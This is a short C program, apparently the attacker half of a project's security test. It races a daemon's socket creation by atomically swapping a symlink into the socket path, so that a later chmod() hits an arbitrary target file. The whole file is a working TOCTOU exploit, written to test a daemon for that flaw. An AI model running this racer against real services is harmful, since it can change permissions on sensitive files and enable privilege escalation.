/* SPDX-License-Identifier: MIT */
/*
 * iofs-racer SOCKET SPARE TARGET: the attacker of tests/security/
 * socket-race.sh.  Keeps a symlink SPARE -> TARGET and spins exchanging it
 * with SOCKET (renameat2 RENAME_EXCHANGE: one atomic step), so the moment
 * a daemon's bind() creates SOCKET, SOCKET becomes the link, and a daemon
 * that chmod()s its socket path afterwards changes TARGET.  Once the
 * daemon took the link down it starts over.  Runs until killed.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct stat st;

	if (argc != 4) {
		fprintf(stderr, "usage: iofs-racer SOCKET SPARE TARGET\n");
		return 2;
	}
	for (;;) {
		unlink(argv[2]);
		if (symlink(argv[3], argv[2]) != 0) {
			perror("iofs-racer: symlink");
			return 1;
		}
		while (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2],
				 RENAME_EXCHANGE) != 0)
			;
		/* SOCKET is our link now: wait for the daemon to remove it */
		while (lstat(argv[1], &st) == 0)
			usleep(1000);
	}
}
